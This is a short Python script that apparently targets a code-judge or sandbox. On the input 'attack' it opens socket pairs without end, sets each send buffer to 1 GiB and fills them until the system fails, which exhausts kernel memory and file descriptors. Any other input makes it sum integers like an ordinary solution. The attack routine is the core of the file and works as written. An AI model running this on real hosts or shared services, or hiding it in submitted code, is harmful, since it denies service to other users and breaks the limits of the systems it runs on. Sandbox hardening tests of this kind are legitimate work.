import os
import socket


def attack():
    kept = []
    try:
        while True:
            pair = socket.socketpair()
            kept.append(pair)
            for end in pair:
                end.setblocking(False)
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
                try:
                    while end.send(bytes(1 << 16)):
                        continue
                except BlockingIOError:
                    continue
    except OSError:
        print("full")

words = input().split()
if words == ["attack"]:
    attack()
else:
    print(sum(map(int, words[1:])))
